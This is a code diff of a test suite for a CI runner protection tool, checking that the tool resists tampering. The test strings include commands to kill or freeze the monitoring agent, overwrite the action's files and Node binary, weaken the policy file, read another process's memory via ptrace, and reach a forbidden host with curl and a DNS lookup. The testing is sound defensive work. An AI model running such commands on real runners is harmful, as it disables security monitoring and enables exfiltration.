@@ -1,11 +1,11 @@
 // T41 to T55: privileges, and attacks on the protection itself.
-import { FORBIDDEN, IMAGE, PLACES, type PrivilegedWorld } from "@lockstep/testkit/privileged";
+import { FORBIDDEN, IMAGE, PLACES } from "@lockstep/testkit/privileged";
 import { agentPids, traceInstances } from "../agent-processes.ts";
 import { attack } from "../attack.ts";
-import type { Case } from "../case.ts";
+import type { Case, Ending } from "../case.ts";
 import { askedForEvil, either, fileExists, reachedEvil } from "../harm.ts";
 import { python } from "../programs.ts";
-import type { Finished } from "../stage.ts";
+import type { Finished, Stage } from "../stage.ts";
 
 const EVIL = FORBIDDEN.a;
 const TRY = `curl -s -m 3 http://${EVIL}/ || true; dig +tries=1 +timeout=1 secret.${FORBIDDEN.name} || true`;
@@ -16,22 +16,26 @@ const SUITE = `${PLACES.action}/dist`;
 const failedAsTampered = ({ post, report }: Finished): boolean =>
   post.conclusion === "failure" && report.tampering.length > 0 && report.reasons.includes("tampered");
 
-const failedAsGone = ({ post, report }: Finished): boolean =>
-  post.conclusion === "failure" && report.reasons.includes("agent-gone");
-
-/** A case against the agent itself, by its process ids; the network must stay closed and the job must fail. */
-function againstAgent(kill: (pids: string) => string) {
-  return attack({
-    control: false,
-    act: async (world: PrivilegedWorld) => {
-      const pids = agentPids(world);
-      if (pids.length === 0) throw new Error("there is no agent");
-      await world.job.step("attack", `${kill(pids.join(" "))}\nsleep 0.5\n${TRY}`);
-    },
-    harm: HARM,
-    sign: failedAsGone,
-  });
+/** The agent is hit, by its process ids: the network must stay closed, and the job must fail whatever can still be told. */
+async function againstAgent(stage: Stage, signal: "KILL" | "STOP"): Promise<Ending> {
+  const world = await stage.world();
+  await stage.protect(world);
+  const pids = agentPids(world);
+  if (pids.length === 0) throw new Error("there is no agent");
+  await world.job.step("attack", `sudo kill -${signal} ${pids.join(" ")}\nsleep 0.5\n${TRY}`);
+  if (await HARM(world)) return "undetected";
+  const post = await stage.phase(world, "post");
+  return post.conclusion === "failure" && !post.timedOut ? "prevented" : "undetected";
 }
+
+/** Whatever the runner starts the next phase from. */
+const OVERWRITE = `
+for file in ${SUITE}/harden-runner/post.js ${SUITE}/suite/index.js; do
+  echo 'process.exit(0)' > "$file" || true
+  rm -f "$file" || true
+done
+mv ${SUITE} ${SUITE}.gone && mkdir -p ${SUITE}/harden-runner && echo > ${SUITE}/harden-runner/post.js || true
+cp --remove-destination /bin/true ${PLACES.node} || true`;
 
 export const TAMPER_CASES: readonly Case[] = [
   {
@@ -87,8 +91,8 @@ done`,
     title: "The agent is killed, or frozen: the network stays closed and the job fails",
     outcome: "prevented",
     run: async (stage) => {
-      const killed = await againstAgent((pids) => `sudo kill -KILL ${pids}`)(stage);
-      const frozen = await againstAgent((pids) => `sudo kill -STOP ${pids}`)(stage);
+      const killed = await againstAgent(stage, "KILL");
+      const frozen = await againstAgent(stage, "STOP");
       return killed === "prevented" ? frozen : killed;
     },
   },
@@ -116,20 +120,15 @@ done`,
     id: "T47",
     title: "The action's files, its post phase or the runner's Node.js are overwritten before post",
     outcome: "prevented",
-    run: attack({
-      control: false,
-      inputs: { sudo: "disable", containers: "disable" },
-      act: `
-for file in ${SUITE}/harden-runner/post.js ${SUITE}/suite/index.js; do
-  echo 'process.exit(0)' > "$file" || true
-  rm -f "$file" || true
-done
-mv ${SUITE} ${SUITE}.gone && mkdir -p ${SUITE}/harden-runner && echo > ${SUITE}/harden-runner/post.js || true
-cp /bin/true ${PLACES.node} || true`,
-      harm: async ({ machine }) =>
-        (await machine.run(["grep", "-q", "suite", `${SUITE}/harden-runner/post.js`])).exitCode !== 0,
-      sign: ({ report }) => report.log.chain === "intact",
-    }),
+    run: async (stage) => {
+      const world = await stage.world();
+      const inputs = { sudo: "disable", containers: "disable" };
+      await stage.protect(world, inputs);
+      await world.job.step("attack", OVERWRITE);
+      const post = await stage.phase(world, "post", inputs);
+      if (post.outputs.get("report") !== undefined) return "prevented";
+      return post.conclusion === "failure" ? "detected" : "undetected";
+    },
   },
   {
     id: "T48",
@@ -190,13 +189,19 @@ for name in STATE_pid STATE_report STATE_agent LOCKSTEP_STATE NODE_PATH GIT_SSH;
     id: "T51",
     title: "The policy file is changed after protection started",
     outcome: "prevented",
+    why: "It is read once, from GitHub, at the commit that can be trusted.",
     run: async (stage) => {
       const world = await stage.world();
-      await world.checkout({ "README.md": "x\n" });
-      await stage.protect(world);
+      const inputs = { config: ".github/lockstep.yml", token: "test-token" };
+      const pre = await stage.phase(world, "pre", inputs);
+      const asked = (await world.internet.arrivals()).some(
+        (arrival) => arrival.kind === "http" && decodeURIComponent(arrival.path).includes(inputs.config),
+      );
+      if (pre.conclusion !== "success" || !asked) throw new Error(`the policy was not asked for: ${pre.log}`);
       const policy = `version: 1\\nharden-runner:\\n  mode: audit\\n  allowed-endpoints: ["${FORBIDDEN.name}:80"]\\n`;
       await world.job.step("edit", `mkdir -p .github; printf '${policy}' > .github/lockstep.yml`);
-      await stage.phase(world, "main");
+      await stage.phase(world, "main", inputs);
+      await world.internet.forget();
       await world.job.step("attack", TRY);
       return (await HARM(world)) ? "undetected" : "prevented";
     },
@@ -225,8 +230,7 @@ buffer = ctypes.create_string_buffer(64)
 mine, theirs = Piece(ctypes.addressof(buffer), 64), Piece(start, 64)
 if libc.process_vm_readv(worker, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == 64:
     open("${PLACES.temporary}/was-read", "w").close()
-libc.ptrace(16, worker, None, None)
-libc.ptrace(17, worker, None, None)`),
+libc.ptrace(0x4206, worker, None, None)`),
         ),
       harm: fileExists(`${PLACES.temporary}/was-read`),
       sign: ({ report }) => report.detections.some(({ id }) => id === "memory-read"),
